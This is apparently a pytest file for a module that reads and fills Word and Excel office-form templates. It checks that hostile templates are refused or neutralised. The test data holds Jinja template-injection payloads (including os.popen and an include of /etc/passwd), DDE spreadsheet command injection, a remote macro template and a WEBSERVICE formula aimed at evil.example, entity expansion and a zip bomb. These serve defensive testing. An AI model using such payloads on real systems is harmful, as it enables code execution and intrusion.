"""Forms of offices: what is read of them, how they are filled, and what is refused."""

import io
from collections.abc import Callable

import docx
import pytest
from openpyxl import load_workbook

from gis.errors import InvalidInput, WanggeError
from gis.papers.template_forms import fill_here, read_here
from gis.papers.template_names import Cell, field_name, recognised
from gis.papers.template_reader import read_fields
from tests.support.forms import excel_form, part_of, with_part, word_form

HOSTILE = "{{7*7}} {_{ {% for %} =1+1 <b>&amp;"
FIGURES: dict[str, Cell] = {"reported": ("12", 12, ""), "response": ("50.0%", 0.5, "0.0%")}
ROWS: list[dict[str, Cell]] = [
    {"name": ("一网格", None, ""), "reported": ("7", 7, "")},
    {"name": (HOSTILE, None, ""), "reported": ("5", 5, "")},
    {"name": ("=cmd|' /c calc'!A1", None, ""), "reported": ("0", 0, "")},
]
MAPPING = {"新增": "reported", "及时率": "response", "row.网格": "name", "row.新增": "reported"}
WORD = word_form(
    ["本期新增 {{ 新增 }} 件，及时率 {{figures.及时率}}", "{{ 审核人 }}"],
    ["网格", "新增"],
    ["{{ 行.网格 }}", "{{row.新增}}"],
)


def test_fields_are_read_as_they_are_written() -> None:
    assert read_here(WORD, ".docx", "a.docx") == [
        "新增",
        "及时率",
        "审核人",
        "row.网格",
        "row.新增",
    ]
    sheet = excel_form(
        {"A1": "新增{新增}件", "A3": "{行.网格}", "B3": "{row.新增}", "C3": "={1,2}"}
    )
    assert read_here(sheet, ".xlsx", "a.xlsx") == ["新增", "row.网格", "row.新增"]
    assert field_name(" figures . reported ") == "reported"


def test_names_are_recognised_by_key_word_and_synonym() -> None:
    figures = {"reported": "上报数", "in_time": "按期处理率"}
    columns = {"name": "名称", "reported": "上报数"}
    fields = [
        "reported",
        "上报数",
        "新增",
        "按时办结率(%)",
        "审核人",
        "row.网格",
        "row.上报数",
        "row.审核人",
    ]
    assert recognised(fields, figures, columns) == {
        "reported": "reported",
        "上报数": "reported",
        "新增": "reported",
        "row.网格": "name",
        "row.上报数": "reported",
    } | {"按时办结率(%)": "in_time"}


def test_a_form_of_word_is_filled_and_texts_stay_as_they_are() -> None:
    document = docx.Document(io.BytesIO(fill_here(WORD, ".docx", MAPPING, FIGURES, ROWS)))
    assert [part.text for part in document.paragraphs] == ["本期新增 12 件，及时率 50.0%", ""]
    (table,) = document.tables
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["网格", "新增"],
        ["一网格", "7"],
        [HOSTILE, "5"],
        ["=cmd|' /c calc'!A1", "0"],
    ]
    empty = docx.Document(io.BytesIO(fill_here(WORD, ".docx", MAPPING, FIGURES, [])))
    assert len(empty.tables[0].rows) == 1


def test_a_form_of_excel_is_filled_and_what_stands_below_moves() -> None:
    form = excel_form(
        {
            "A1": "本期新增{新增}件",
            "B1": "{及时率}",
            "A3": "{row.网格}",
            "B3": "{row.新增}",
            "C3": "说明",
            "B4": "=SUM(B3:B3)",
            "A5": "审核人：{审核人}",
            "C5": "=B4*2+B1",
        },
        ["A5:B5"],
    )
    sheet = load_workbook(io.BytesIO(fill_here(form, ".xlsx", MAPPING, FIGURES, ROWS))).active
    assert sheet is not None
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["本期新增12件", 0.5, None],
        [None, None, None],
        ["一网格", 7, "说明"],
        [HOSTILE, 5, None],
        ["'=cmd|' /c calc'!A1", 0, None],
        [None, "=SUM(B3:B5)", None],
        ["审核人：", None, "=B6*2+B1"],
    ]
    assert sheet["B1"].number_format == "0.0%"
    assert [area.coord for area in sheet.merged_cells.ranges] == ["A7:B7"]
    one = load_workbook(io.BytesIO(fill_here(form, ".xlsx", MAPPING, FIGURES, []))).active
    assert one is not None
    assert (one["A3"].value, one["B4"].value) == ("", "=SUM(B3:B3)") or one["A3"].value is None


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ figures.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ 7*7 }}",
        "{{ x|attr('__class__') }}",
    ],
)
def test_an_expression_is_a_name_that_nothing_has(text: str) -> None:
    form = word_form([text])
    (name,) = read_here(form, ".docx", "a.docx")
    assert recognised([name], {"reported": "上报数"}, {}) == {}
    filled = docx.Document(io.BytesIO(fill_here(form, ".docx", {name: "__class__"}, FIGURES, ROWS)))
    assert [part.text for part in filled.paragraphs] == [""]


@pytest.mark.parametrize(
    "text",
    [
        "{% for a in range(10**9) %}{% endfor %}",
        "{% for row in rows %}{% for row in rows %}{% endfor %}{% endfor %}",
        "{% for row in rows %}",
        "{% endfor %}",
        "{% set x = 1 %}",
        "{% include '/etc/passwd' %}",
        "{% macro x() %}{{ x() }}{% endmacro %}{{ x() }}",
        "{% raw %}{{ 新增 }}{% endraw %}",
        "{# 注释 #}",
        "{{ 新增",
        "{{ row.网格 }}",
        "{{ }}",
        "{{ " + "长" * 61 + " }}",
    ],
)
def test_what_is_no_field_is_refused_with_its_text(text: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        read_here(word_form([text]), ".docx", "a.docx")
    assert refused.value.code == "paper_template.wrong_field"


RELATIONS = "word/_rels/document.xml.rels"
LINK = (
    b'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
)


def linked(kind: bytes, target: bytes) -> bytes:
    part = part_of(WORD, RELATIONS).replace(b"</Relationships>", LINK % (kind, target))
    return with_part(WORD, RELATIONS, part, instead=True)


def in_document(xml: bytes) -> bytes:
    part = part_of(WORD, "word/document.xml").replace(b"<w:body>", b"<w:body>" + xml)
    return with_part(WORD, "word/document.xml", part, instead=True)


def entities() -> bytes:
    part = part_of(WORD, "word/document.xml").replace(
        b"<w:document", b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:document', 1
    )
    return with_part(WORD, "word/document.xml", part, instead=True)


FIELD = (
    b"<w:p><w:r><w:instrText>%s</w:instrText></w:r><w:r><w:instrText>%s</w:instrText></w:r></w:p>"
)
WRONG: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "macro": (
        "paper_template.macros",
        ".docx",
        lambda: with_part(WORD, "word/vbaProject.bin", b"x"),
    ),
    "object": (
        "paper_template.macros",
        ".docx",
        lambda: with_part(WORD, "word/embeddings/oleObject1.bin", b"x"),
    ),
    "renamed .docm": (
        "paper_template.macros",
        ".docx",
        lambda: with_part(
            WORD,
            "[Content_Types].xml",
            part_of(WORD, "[Content_Types].xml").replace(
                b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
            ),
            instead=True,
        ),
    ),
    "remote template": (
        "paper_template.external",
        ".docx",
        lambda: linked(b"attachedTemplate", b"http://evil.example/x.dotm"),
    ),
    "remote picture": (
        "paper_template.external",
        ".docx",
        lambda: linked(b"image", b"http://e/x.png"),
    ),
    "link to a file": (
        "paper_template.external",
        ".docx",
        lambda: linked(b"hyperlink", b"file://server/share"),
    ),
    "field in two runs": (
        "paper_template.external",
        ".docx",
        lambda: in_document(FIELD % (b"DDEA", b"UTO c:\\\\x")),
    ),
    "entities": ("paper_template.damaged", ".docx", entities),
    "zip bomb": (
        "paper_template.too_large",
        ".docx",
        lambda: with_part(WORD, "word/media/x.bin", bytes(60_000_000)),
    ),
    "no zip": ("paper_template.damaged", ".docx", lambda: b"PK\x03\x04 nothing"),
    "the other kind": ("paper_template.wrong_kind", ".xlsx", lambda: WORD),
    "formula that fetches": (
        "paper_template.external",
        ".xlsx",
        lambda: excel_form({"A1": "{新增}", "A2": '=WEBSERVICE("http://evil.example")'}),
    ),
    "formula that starts a program": (
        "paper_template.external",
        ".xlsx",
        lambda: excel_form({"A1": "{新增}", "A2": "=cmd|'/c calc'!A0"}),
    ),
    "far cell": (
        "paper_template.sheet_too_large",
        ".xlsx",
        lambda: excel_form({"A1": "{新增}", "XFD1048576": "x"}),
    ),
    "two rows": (
        "paper_template.several_rows",
        ".xlsx",
        lambda: excel_form({"A1": "{row.网格}", "A2": "{row.网格}"}),
    ),
}


@pytest.mark.parametrize("name", WRONG)
def test_a_hostile_form_is_refused(name: str) -> None:
    code, ending, make = WRONG[name]
    with pytest.raises(WanggeError) as refused:
        read_here(make(), ending, f"form{ending}")
    assert refused.value.code == code


def test_a_link_to_a_page_may_stay() -> None:
    assert read_here(linked(b"hyperlink", b"https://www.gov.cn/"), ".docx", "a.docx")


def test_a_form_is_read_in_a_process_of_its_own() -> None:
    assert read_fields(WORD, ".docx", "a.docx")[0] == "新增"
    with pytest.raises(WanggeError) as refused:
        read_fields(word_form(["{% set x = 1 %}"]), ".docx", "周报.docx")
    assert refused.value.code == "paper_template.wrong_field"
